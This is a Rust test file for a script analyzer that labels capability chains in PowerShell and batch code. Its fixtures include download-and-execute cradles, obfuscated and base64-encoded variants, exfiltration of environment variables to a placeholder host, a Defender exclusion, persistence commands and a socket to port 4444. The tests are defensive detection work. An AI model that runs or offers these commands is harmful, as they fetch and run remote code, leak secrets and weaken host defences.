//! PowerShell and batch: uses, chains, decoded layers.

mod support;

use foretaste_lang::observe;
use foretaste_model::Limits;
use support::chains;

fn check(path: &str, cases: &[(&str, &[&str])]) {
    let mut wrong = Vec::new();
    for (script, expected) in cases {
        let found = chains(&observe(path, script.as_bytes(), &Limits::default()));
        let mut expected: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
        expected.sort();
        if found != expected {
            wrong.push(format!("{script}\n   is {found:?}\n  not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn powershell_chains_are_followed() {
    check(
        "run.ps1",
        &[
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid/a')",
                &["network.http > code.eval"],
            ),
            (
                "iwr http://x.example.invalid/a | iex",
                &["network.http > code.eval"],
            ),
            (
                "$c = New-Object System.Net.WebClient\n$s = $c.DownloadString(\"http://x.example.invalid/a\")\nInvoke-Expression $s",
                &["network.http > code.eval"],
            ),
            (
                "&('I'+'EX') (irm 'http://x.example.invalid/a')",
                &["network.http > code.eval"],
            ),
            (
                "I`E`X (c`url http://x.example.invalid/a)",
                &["network.http > code.eval"],
            ),
            (
                "Invoke-WebRequest -Uri http://x.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
                &["network.http > process.spawn [file]"],
            ),
            (
                "iwr http://x.example.invalid/a.exe -OutFile 'C:\\a.exe'; Start-Process 'C:\\a.exe'",
                &["network.http > process.spawn [file]"],
            ),
            (
                "(New-Object Net.WebClient).DownloadFile('http://x.example.invalid/a', 'a.exe')\n& '.\\a.exe'",
                &["network.download > process.spawn [file]"],
            ),
            (
                "$b = [Convert]::FromBase64String('AAAA'); [Reflection.Assembly]::Load($b)",
                &["decode.text > code.native"],
            ),
            (
                "Invoke-RestMethod -Method Post -Uri http://x.example.invalid/c -Body (gci env: | ConvertTo-Json)",
                &["environment.read-all > encode.object > network.http"],
            ),
            (
                "powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAcgBtACAAJwBoAHQAdABwADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA==",
                &["base64+utf-16le: network.http > code.eval"],
            ),
            ("Get-Process | Sort-Object CPU\nWrite-Host 'done'", &[]),
            (
                "Invoke-WebRequest https://dl.example.invalid/x.zip -OutFile x.zip\nExpand-Archive x.zip",
                &[],
            ),
        ],
    );
}

#[test]
fn batch_chains_are_followed() {
    check(
        "run.bat",
        &[
            (
                "@echo off\r\ncurl -s -o a.exe http://x.example.invalid/a.exe && start \"\" a.exe\r\n",
                &["network.http > process.spawn [file]"],
            ),
            (
                "certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe & a.exe",
                &["network.download > process.spawn [file]"],
            ),
            (
                "p^owersh^ell -Command \"IEX (irm http://x.example.invalid/a)\"",
                &["powershell: network.http > code.eval"],
            ),
            (
                "set u=http://x.example.invalid/a\nset c=curl\n%c% %u% | cmd",
                &["network.http > process.shell"],
            ),
            (
                "if exist x.txt del x.txt\nfor %%f in (*.py) do python %%f\n",
                &[],
            ),
            (
                "set > e.txt\ncurl -T e.txt http://x.example.invalid/",
                &["environment.read-all > network.http [file]"],
            ),
        ],
    );
}

#[test]
fn windows_commands_are_capabilities() {
    let has = |path: &str, script: &str, id: &str| {
        let facts = observe(path, script.as_bytes(), &Limits::default());
        facts.uses.iter().any(|u| u.capability.id() == id)
    };
    for (path, script, id) in [
        (
            "a.bat",
            "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
            "system.persist",
        ),
        (
            "a.bat",
            "reg add HKCU\\Software\\X /v a /d b",
            "system.settings",
        ),
        (
            "a.bat",
            "bitsadmin /transfer j http://x.example.invalid/a c:\\a",
            "network.download",
        ),
        (
            "a.ps1",
            "Add-MpPreference -ExclusionPath C:\\",
            "system.settings",
        ),
        (
            "a.ps1",
            "Register-ScheduledTask -TaskName x",
            "system.persist",
        ),
        (
            "a.ps1",
            "[Environment]::GetEnvironmentVariables()",
            "environment.read-all",
        ),
        (
            "a.ps1",
            "$s = New-Object System.Net.Sockets.TCPClient('203.0.113.1', 4444)",
            "network.socket",
        ),
        ("a.ps1", "Get-Clipboard", "device.clipboard"),
    ] {
        assert!(has(path, script, id), "{script}: {id}");
    }
}
